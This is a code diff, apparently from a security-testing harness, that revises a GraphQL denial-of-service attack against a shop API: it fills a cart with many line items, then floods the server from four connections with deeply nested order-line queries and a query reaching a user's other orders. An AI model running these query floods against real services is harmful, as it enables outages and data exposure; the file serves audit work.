@@ -60,7 +60,7 @@ async function cartOfLines(arm: Arm, place: number): Promise<string> {
   const line = { variantId: arm.target.variantIds.at(place), quantity: 1 };
   const variables = { input: { lineItems: Array.from({ length: linesOfCart }, () => line) } };
   const body = JSON.stringify({ query, variables });
-  const { text: told } = await arm.ask('POST', '/graphql', { headers: signed(arm), body });
+  const { text: told } = await arm.prepare('POST', '/graphql', { headers: signed(arm), body });
   const [, number] = /"number":"(R\d+)"/.exec(told) ?? [];
   if (!number) throw new Error(`No cart of lines: ${told}`);
   return number;
@@ -69,8 +69,15 @@ async function cartOfLines(arm: Arm, place: number): Promise<string> {
 const line = 'id quantity price singleDisplayAmount description createdAt updatedAt';
 const linesOfOrder = (selection: string): string =>
   `lineItems { ${line} order { id ${selection} } }`;
-/** An order's lines below each of its lines: a quarter of a million, which are read and not shown. */
-const ledBack = linesOfOrder(linesOfOrder(''));
+
+/** What is asked below each line of an order: all its lines, then the dearest that is allowed. */
+const belowLines = (number: string): readonly string[] => [
+  `{ order(by: { number: "${number}" }) { ${linesOfOrder(linesOfOrder(''))} } }`,
+  `{ lineItems(order: { number: "${number}" }, perPage: 9) {
+    nodes { ${line} order { ${linesOfOrder('')} } } } }`,
+  `{ order(by: { number: "${number}" }) {
+    ${linesOfOrder('user { orders(first: 400) { nodes { number } } }')} } }`,
+];
 
 const get = (arm: Arm, path: string): Promise<unknown> =>
   arm.ask('GET', path, { headers: signed(arm) });
@@ -98,13 +105,12 @@ export const attacksOfReaders: readonly Attack[] = [
   },
   {
     finding: '11',
-    does: '4 connections request the 500 lines of an order below each of its lines',
-    reaches: 200,
+    does: '4 connections request the 500 lines of an order below each of its lines, or as much as allowed',
+    reaches: 400,
+    carts: 400,
     strike: async (arm) => {
-      const number = await cartOfLines(arm, 0);
-      return arm.crowd(4, () =>
-        query(arm, `{ order(by: { number: "${number}" }) { ${ledBack} } }`),
-      );
+      const documents = belowLines(await cartOfLines(arm, 0));
+      return arm.crowd(4, (place) => query(arm, documents[place % documents.length] ?? ''));
     },
   },
   {
